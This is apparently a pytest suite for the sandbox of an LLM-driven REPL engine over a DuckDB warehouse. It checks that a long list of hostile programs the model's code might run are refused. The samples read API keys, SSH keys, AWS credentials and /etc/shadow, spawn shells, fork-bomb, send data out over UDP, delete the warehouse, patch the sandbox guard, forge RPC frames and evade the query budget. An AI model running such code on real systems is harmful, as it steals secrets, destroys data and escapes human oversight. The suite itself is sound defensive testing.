"""Hostile programs, run as root-model code through the real worker and engine.

Each program must fail with a clear message in the model's next observation, the run must
go on and end with the scripted ``FINAL('done')``, the warehouse file must be byte-for-byte
unchanged and no host secret may reach the model or the trajectory (checked by the
``hostile`` fixture for every test). Every program runs at every sandbox level, skipped
with the reason where this machine lacks one (``sql()`` ones only at ``process``: the host
polices them the same at every level).
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import socket
from pathlib import Path

import pytest

from rlm_dagster import Limits

from .conftest import LIMITS, SSH_KEY_TEXT, Hostile, each_level, real_home

at_each_level = pytest.mark.parametrize("level", each_level())

# id -> (program, strings the next observation must contain)
BLOCKED: dict[str, tuple[str, tuple[str, ...]]] = {
    # -- secrets -----------------------------------------------------------------------
    "environment-variables": (
        "import os\nprint(sorted(os.environ))\nprint(os.environ.get('ANTHROPIC_API_KEY'), "
        "os.getenv('AWS_SECRET_ACCESS_KEY'))",
        ("None None", "'HOME'"),
    ),
    "host-environ-via-proc": (
        "import os\nprint(open(f'/proc/{os.getppid()}/environ').read())",
        ("SandboxViolation", "reading '/proc/"),
    ),
    "environ-of-every-process": (
        "import os\nfor pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n        print(open(f'/proc/{pid}/environ', 'rb').read())",
        ("SandboxViolation", "listing '/proc'"),
    ),
    "ssh-key-in-home": (
        "import os\nprint(open(os.path.join({HOME}, '.ssh', 'id_rsa')).read())",
        ("SandboxViolation", "id_rsa", "off limits"),
    ),
    "aws-credentials-in-home": (
        "print(open({HOME} + '/.aws/credentials').read())",
        ("SandboxViolation", "credentials"),
    ),
    "real-home-from-passwd": (
        "import os, pwd\nhome = pwd.getpwuid(os.getuid()).pw_dir\n"
        "print(os.listdir(os.path.join(home, '.ssh')))",
        ("SandboxViolation", "listing"),
    ),
    "etc-shadow": ("print(open('/etc/shadow').read())", ("SandboxViolation", "'/etc/shadow'")),
    # reads are an allowlist: a host file that is on no deny list is still not readable
    "host-file-outside-the-read-roots": (
        "print(open('/etc/hostname').read())",
        ("SandboxViolation", "reads only its scratch"),
    ),
    "warehouse-bytes": (
        "print(open({WAREHOUSE}, 'rb').read(200))",
        ("SandboxViolation", "warehouse.duckdb"),
    ),
    "symlink-to-secret": (
        "import os\nos.symlink('/etc/shadow', 'innocent.txt')\nprint(open('innocent.txt').read())",
        ("SandboxViolation", "os.symlink is blocked"),
    ),
    "proc-root-escape": (
        "print(open('/proc/self/root/etc/shadow').read())",
        ("SandboxViolation", "shadow"),
    ),
    # -- network -----------------------------------------------------------------------
    "dns-lookup": (
        "import socket\nprint(socket.getaddrinfo('example.com', 443))",
        ("SandboxViolation", "network access is blocked"),
    ),
    "http-request": (
        "import urllib.request\nprint(urllib.request.urlopen('http://example.com', timeout=2).read())",
        ("SandboxViolation", "network access is blocked"),
    ),
    "udp-exfiltration": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'secret', ('8.8.8.8', 53))",
        ("SandboxViolation", "network access is blocked"),
    ),
    # -- processes ---------------------------------------------------------------------
    "spawn-a-shell": (
        "import subprocess\nprint(subprocess.run(['sh', '-c', 'id'], capture_output=True).stdout)",
        ("SandboxViolation", "starting processes is blocked"),
    ),
    "os-system": ("import os\nos.system('touch /tmp/rlm-pwned')", ("SandboxViolation",)),
    "os-popen": ("import os\nprint(os.popen('id').read())", ("SandboxViolation",)),
    "fork-bomb": (
        "import os\nwhile True:\n    os.fork()",
        ("SandboxViolation", "starting processes is blocked in the REPL (os.fork)"),
    ),
    "exec-a-shell": (
        "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])",
        ("SandboxViolation", "os.exec"),
    ),
    "multiprocessing": (
        "import multiprocessing as mp\np = mp.Process(target=print, args=('child',))\np.start()",
        ("SandboxViolation",),
    ),
    "pty-shell": ("import pty\npty.spawn('/bin/sh')", ("SandboxViolation",)),
    "posixsubprocess-directly": (
        "import _posixsubprocess\n_posixsubprocess.fork_exec(*[None] * 23)",
        ("SandboxViolation", "fork_exec"),
    ),
    "kill-the-host": (
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        ("SandboxViolation", "signals to other processes"),
    ),
    # -- the warehouse file ------------------------------------------------------------
    "overwrite-warehouse": (
        "open({WAREHOUSE}, 'wb').write(b'pwned')",
        ("SandboxViolation", "writing", "scratch directory"),
    ),
    "delete-warehouse": ("import os\nos.remove({WAREHOUSE})", ("SandboxViolation", "deleting")),
    "truncate-warehouse": ("import os\nos.truncate({WAREHOUSE}, 0)", ("SandboxViolation",)),
    "replace-warehouse": (
        "import os\nopen('fake.duckdb', 'wb').write(b'x')\nos.replace('fake.duckdb', {WAREHOUSE})",
        ("SandboxViolation", "renaming"),
    ),
    "pathlib-write": (
        "from pathlib import Path\nPath({WAREHOUSE}).write_bytes(b'')",
        ("SandboxViolation", "writing"),
    ),
    "rmtree-warehouse-dir": (
        "import os, shutil\nshutil.rmtree(os.path.dirname({WAREHOUSE}))",
        ("SandboxViolation",),
    ),
    "dir-fd-escape": (
        "import os\nfd = os.open(os.path.dirname({WAREHOUSE}), os.O_RDONLY)\n"
        "os.open('warehouse.duckdb', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)",
        # namespace: the directory does not exist in the worker's view of the filesystem
        ("SandboxViolation: opening the directory|SandboxViolation: reading|FileNotFoundError",),
    ),
    "write-outside-scratch": (
        "open('/tmp/rlm-pwned.txt', 'w').write('x')",
        ("SandboxViolation", "/tmp/rlm-pwned.txt"),
    ),
    "duckdb-directly": (
        "import duckdb\nduckdb.connect({WAREHOUSE}).execute('DROP TABLE tickets')",
        ("SandboxViolation", "importing 'duckdb' is blocked"),
    ),
    "sqlite-directly": (
        "import sqlite3\nsqlite3.connect({WAREHOUSE}).execute('PRAGMA writable_schema=1')",
        ("SandboxViolation", "sqlite3"),
    ),
    "pyarrow-native-io": (
        "import pyarrow as pa\npa.OSFile({WAREHOUSE}, 'w').write(b'pwned')",
        ("SandboxViolation", "importing 'pyarrow' is blocked"),
    ),
    # -- the sandbox itself ------------------------------------------------------------
    "ctypes": (
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        ("SandboxViolation", "native code is blocked"),
    ),
    "import-host-modules": (
        "import rlm_dagster.engine.budget as b\nb.Budget.reserve = lambda *a, **k: None",
        ("SandboxViolation", "host's code"),
    ),
    "import-host-engine": (
        "from rlm_dagster.repl import host\nprint(host)",
        ("SandboxViolation", "rlm_dagster.repl.host"),
    ),
    "subinterpreter": (
        "import _xxsubinterpreters as si\n"
        "si.run_string(si.create(), \"open('/tmp/rlm-pwned.txt', 'w').write('x')\")",
        ("SandboxViolation", "subinterpreter"),
    ),
    "native-module-from-scratch": (
        "import shutil, importlib.util\n"
        "shutil.copyfile(importlib.util.find_spec('_json').origin, "
        "'_evil.cpython-311-x86_64-linux-gnu.so')\n"
        "import _imp\nspec = importlib.util.spec_from_file_location('_json', "
        "'_evil.cpython-311-x86_64-linux-gnu.so')\n_imp.create_dynamic(spec)",
        ("SandboxViolation", "loading the native module"),
    ),
    "testcapi": ("import _testcapi", ("SandboxViolation", "native code is blocked")),
    "shared-memory": (
        "from multiprocessing import shared_memory\n"
        "shared_memory.SharedMemory('rlm', create=True, size=10)",
        ("SandboxViolation",),
    ),
    "gc-walk": (
        "import gc\nprint(len(gc.get_objects()))",
        ("SandboxViolation", "gc.get_objects"),
    ),
    "patch-the-guard": (
        "import rlm_dagster.repl.guard as g\ng._resolve.__code__ = (lambda p: '/tmp').__code__",
        ("SandboxViolation", "__code__"),
    ),
    "add-audit-hook": (  # CPython drops a refused hook silently: check it never runs
        "import sys\nseen = []\nsys.addaudithook(lambda event, args: seen.append(event))\n"
        "open('probe.txt', 'w').close()\nprint('events seen by the new hook:', len(seen))",
        ("events seen by the new hook: 0",),
    ),
    "raise-rlimits": (
        "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))",
        ("SandboxViolation", "resource limits are fixed"),
    ),
    "reopen-rpc-channel": (
        "import os\nch = SHOW_VARS.__self__.channel\nos.fdopen(ch.out_fd, 'wb').write(b'x')",
        ("SandboxViolation", "RPC channel"),
    ),
    # -- resources ---------------------------------------------------------------------
    "allocation-bomb": ("x = bytearray(64 * 2**30)", ("MemoryError",)),
    "deep-recursion": ("def f(n):\n    return f(n + 1)\nf(0)", ("RecursionError",)),
    "thread-bomb": (
        "import threading, time\n"
        "while True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        ("RuntimeError",),
    ),
}


# sql() is policed in the host, the same at every level: these run at the process level.
BLOCKED_SQL: dict[str, tuple[str, tuple[str, ...]]] = {
    "sql-drop-table": ("sql('DROP TABLE tickets')", ("SQLPolicyError", "[read-only]")),
    "sql-attach": (
        'sql("ATTACH " + repr({WAREHOUSE}) + " AS w")',
        ("SQLPolicyError", "[attach]"),
    ),
    "sql-copy": ("sql(\"COPY tickets TO '/tmp/rlm-out.csv'\")", ("SQLPolicyError", "[copy]")),
    "sql-install": ("sql('INSTALL httpfs')", ("SQLPolicyError", "[extension]")),
    "sql-load": ("sql('LOAD httpfs')", ("SQLPolicyError", "[extension]")),
    "sql-read-csv": (
        "sql(\"SELECT * FROM read_csv('/etc/passwd')\")",
        ("SQLPolicyError", "[file-access]"),
    ),
    "sql-multiple-statements": (
        "sql('SELECT 1; DROP TABLE tickets')",
        ("SQLPolicyError", "[single-statement]"),
    ),
    "sql-getenv": (
        "sql(\"SELECT getenv('ANTHROPIC_API_KEY') AS k\")",
        ("SQLPolicyError", "[environment]"),
    ),
    "sql-enable-external-access": (
        "sql('SET enable_external_access = true')",
        ("SQLPolicyError", "[settings]"),
    ),
    "sql-unbound-table": ("sql('SELECT * FROM secrets')", ("SQLPolicyError", "[unbound-table]")),
    # host work is bounded: DuckDB is interrupted when the cell's time runs out
    "sql-infinite-recursive-cte": (
        "sql('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
        "SELECT count(*) AS n FROM r')",
        ("QueryError", "was stopped after"),
    ),
    "sql-cross-join-explosion": (
        "sql('SELECT count(*) AS n FROM (SELECT unnest(generate_series(1, 1000000)) AS x) a, "
        "(SELECT unnest(generate_series(1, 1000000)) AS y) b WHERE x + y > 0')",
        ("QueryError", "was stopped after"),
    ),
}


@at_each_level
@pytest.mark.parametrize("name", list(BLOCKED))
def test_hostile_program_is_blocked(
    hostile: Hostile, level: str, name: str, fake_home: Path
) -> None:
    code, markers = BLOCKED[name]
    code = code.replace("{HOME}", repr(str(fake_home)))
    outcome = hostile.run(level, code)
    for marker in markers:  # "a|b": either
        assert any(m in outcome.observation for m in marker.split("|")), outcome.observation
    assert SSH_KEY_TEXT not in outcome.bodies()


@pytest.mark.parametrize("name", list(BLOCKED_SQL))
def test_hostile_sql_is_refused(hostile: Hostile, name: str) -> None:
    code, markers = BLOCKED_SQL[name]
    outcome = hostile.run("process", code)
    for marker in markers:
        assert marker in outcome.observation, outcome.observation


@at_each_level
def test_real_home_is_off_limits(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(level, f"import os\nprint(os.listdir({real_home()!r}))")
    assert "SandboxViolation" in outcome.observation, outcome.observation


@at_each_level
def test_tcp_connection_to_the_host_is_refused(hostile: Hostile, level: str) -> None:
    accepted: list[object] = []
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.2)
        port = listener.getsockname()[1]
        outcome = hostile.run(
            level,
            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).send(b'x')",
        )
        with contextlib.suppress(TimeoutError):
            accepted.append(listener.accept())
    assert "SandboxViolation: network access is blocked" in outcome.observation
    assert not accepted


@at_each_level
def test_infinite_loop_ends_the_cell_and_the_run_goes_on(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(
        level,
        "kept = 1\nwhile True:\n    pass",
        "print('alive', len(tickets))\nprint(kept)",
        limits=Limits(max_iterations=4, cell_timeout_s=1.5, max_cost_usd=None),
    )
    assert "TimeoutError: the cell ran longer than 1.5 s" in outcome.observation
    assert "variables you defined are lost" in outcome.observation
    after = [r for r in outcome.requests if r.kind == "root"][2].last_user_text
    assert "alive 3" in after and "NameError" in after


@at_each_level
def test_growing_allocation_bomb_is_a_memory_error(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(
        level,
        "chunks = []\nwhile True:\n    chunks.append(b'x' * (128 * 2**20))",
        "del chunks\nprint('alive', len(tickets))",
        limits=Limits(max_iterations=4, cell_timeout_s=30.0, max_cost_usd=None),
    )
    assert "MemoryError" in outcome.observation, outcome.observation
    after = [r for r in outcome.requests if r.kind == "root"][2].last_user_text
    assert "alive 3" in after


@at_each_level
def test_gigabyte_print_is_truncated(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(level, "print('x' * 2**30)\nfor _ in range(256):\n    print('y' * 2**20)")
    assert "[output truncated:" in outcome.observation
    assert len(outcome.observation) < 2 * LIMITS.max_observation_chars


@at_each_level
def test_a_huge_exception_message_shares_the_observation_cap(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(level, "print('ok')\nraise ValueError('z' * 30_000_000 + ' the end')")
    assert "ValueError" in outcome.observation or "error text cut" in outcome.observation
    assert "the end" in outcome.observation  # the error's last words are what the model reads
    assert len(outcome.observation) < 2 * LIMITS.max_observation_chars
    for turn in outcome.result.turns:  # and the host keeps no more than its capture limit
        for cell in turn.cells:
            assert len(cell.error or "") < 200_000 and len(cell.output) < 200_000


@at_each_level
def test_deep_recursion_past_the_c_stack_restarts_the_worker(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(
        level,
        "import sys\nsys.setrecursionlimit(10**8)\nx = []\n"
        "for _ in range(10**6):\n    x = [x]\nrepr(x)",
        "print('alive', len(tickets))",
    )
    assert "WorkerDied: the REPL process ended (a crash (SIGSEGV)" in outcome.observation
    after = [r for r in outcome.requests if r.kind == "root"][2].last_user_text
    assert "alive 3" in after


@at_each_level
def test_rebinding_llm_query_does_not_bypass_the_budget(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(
        level,
        "real = llm_query\nllm_query = lambda p, model=None: 'free'\nprint(llm_query('x'))\n"
        "ch = real.__self__.channel\nsent = failed = 0\n"
        "for i in range(1000):\n"
        "    try:\n        ch.call('llm_query', prompt=f'q{i}', model=None); sent += 1\n"
        "    except Exception as exc:\n        failed += 1; last = exc\n"
        "print(sent, failed, type(last).__name__)",
    )
    assert outcome.result.accounting.calls("sub") <= LIMITS.max_sub_calls
    assert sum(r.kind == "sub" for r in outcome.requests) == LIMITS.max_sub_calls
    assert "free" in outcome.observation
    assert f"{LIMITS.max_sub_calls} {1000 - LIMITS.max_sub_calls} BudgetExceeded" in (
        outcome.observation
    )


@at_each_level
def test_batched_fan_out_beyond_the_budget_is_refused(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(level, "llm_query_batched([f'q{i}' for i in range(1000)])")
    assert "BudgetExceeded" in outcome.observation
    assert sum(r.kind == "sub" for r in outcome.requests) == 0


@at_each_level
def test_forged_frames_flood_cannot_bypass_the_budget(hostile: Hostile, level: str) -> None:
    # Write call frames straight to the channel without reading the replies: the host
    # still counts every call, and stops serving a worker that does not read.
    outcome = hostile.run(
        level,
        "import json, os, struct\nch = SHOW_VARS.__self__.channel\n"
        "for i in range(1000):\n"
        "    body = json.dumps({'op': 'call', 'id': 10**6 + i, 'fn': 'llm_query',"
        " 'args': {'prompt': f'q{i}'}}).encode()\n"
        "    os.write(ch.out_fd, struct.pack('>I', len(body)) + body)\n"
        "print('sent')",
        "print('alive', len(tickets))",
    )
    assert sum(r.kind == "sub" for r in outcome.requests) <= LIMITS.max_sub_calls
    after = [r for r in outcome.requests if r.kind == "root"][2].last_user_text
    assert "alive 3" in after


@at_each_level
@pytest.mark.parametrize(
    "frame",
    [
        "b'\\x00\\x00\\x00\\x05{\"op\"'",  # truncated JSON
        "struct.pack('>I', 3) + b'[1]'",  # not an object
        'struct.pack(\'>I\', 40) + b\'{"op": "done", "cell": 1, "stdout": 5}\'.ljust(40)',
        "(lambda b: struct.pack('>I', len(b)) + b)(pickle.dumps(Evil()))",  # pickle
        "struct.pack('>I', 2**31)",  # claims a 2 GB frame
    ],
    ids=["truncated", "not-an-object", "forged-done", "pickle", "huge-header"],
)
def test_forged_frames_end_the_cell_not_the_host(
    hostile: Hostile, level: str, frame: str, tmp_path: Path
) -> None:
    marker = tmp_path / "unpickled"
    outcome = hostile.run(
        level,
        "import os, pickle, struct\n"
        "class Evil:\n"
        f"    def __reduce__(self):\n        return (open, ({str(marker)!r}, 'w'))\n"
        f"os.write(SHOW_VARS.__self__.channel.out_fd, {frame})\n"
        "import time\ntime.sleep(0.5)",
        "print('alive', len(tickets))",
    )
    assert "ProtocolError" in outcome.observation or "TimeoutError" in outcome.observation
    assert "variables you defined are lost" in outcome.observation
    after = [r for r in outcome.requests if r.kind == "root"][2].last_user_text
    assert "alive 3" in after
    assert not marker.exists()


@at_each_level
def test_final_of_a_pickling_object_is_just_text(
    hostile: Hostile, level: str, tmp_path: Path
) -> None:
    marker = tmp_path / "unpickled"
    outcome = hostile.run(
        level,
        "class Evil:\n"
        f"    def __reduce__(self):\n        return (open, ({str(marker)!r}, 'w'))\n"
        "    def __str__(self):\n        return 'evil object'\n"
        "FINAL(Evil())",
        final="evil object",
    )
    assert outcome.result.answer.table is None
    assert not marker.exists()


@at_each_level
def test_background_thread_writing_frames_between_cells(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(
        level,
        "import os, threading, time\nfd = SHOW_VARS.__self__.channel.out_fd\n"
        "def spam():\n    time.sleep(0.3)\n    os.write(fd, b'\\x00\\x00\\x00\\x02{}')\n"
        "threading.Thread(target=spam, daemon=True).start()",
        "import time\ntime.sleep(0.5)\nprint('second cell')",
        "print('alive', len(tickets))",
    )
    roots = [r for r in outcome.requests if r.kind == "root"]
    assert "ProtocolError" in roots[2].last_user_text
    assert "alive 3" in roots[3].last_user_text


@at_each_level
def test_signalling_the_host_process_group_is_blocked(hostile: Hostile, level: str) -> None:
    outcome = hostile.run(level, f"import os, signal\nos.killpg({os.getpgid(0)}, signal.SIGTERM)")
    assert "SandboxViolation: sending signals to other processes" in outcome.observation


# In a child run: its REPL is a fork of the run's fork server, whose own seccomp filter and
# Landlock ruleset allow more than a worker's (it forks and signals its forks). The same
# programs must be refused there too, and a fork must not be able to reach its server.
IN_A_CHILD = [
    "environment-variables",
    "ssh-key-in-home",
    "etc-shadow",
    "host-environ-via-proc",
    "fork-bomb",
    "kill-the-host",
]
KILL_THE_FORK_SERVER = (
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    ("SandboxViolation",),
)


@at_each_level
@pytest.mark.parametrize("name", [*IN_A_CHILD, "kill-the-fork-server"])
def test_hostile_program_in_a_child_run_is_blocked(
    hostile: Hostile, level: str, name: str, fake_home: Path
) -> None:
    code, markers = BLOCKED.get(name, KILL_THE_FORK_SERVER)
    code = code.replace("{HOME}", repr(str(fake_home)))
    # root turn 1 starts a child; the child's turn 1 runs the program and its turn 2 answers;
    # the root prints the child's answer and (turn 2) answers "done"
    outcome = hostile.run(
        level,
        "print(rlm_query('look around'))",
        code,
        "FINAL('child done')",
        limits=dataclasses.replace(LIMITS, max_depth=2),
    )
    roots = [r for r in outcome.requests if r.kind == "root"]
    seen = roots[2].last_user_text  # the child's turn 2: what its program printed
    for marker in markers:  # "a|b": either
        assert any(m in seen for m in marker.split("|")), seen
    assert SSH_KEY_TEXT not in outcome.bodies()
    (child,) = [c for turn in outcome.result.turns for c in turn.children]
    assert "forked from a fork server" in child.sandbox
    assert child.answer_text == "child done"
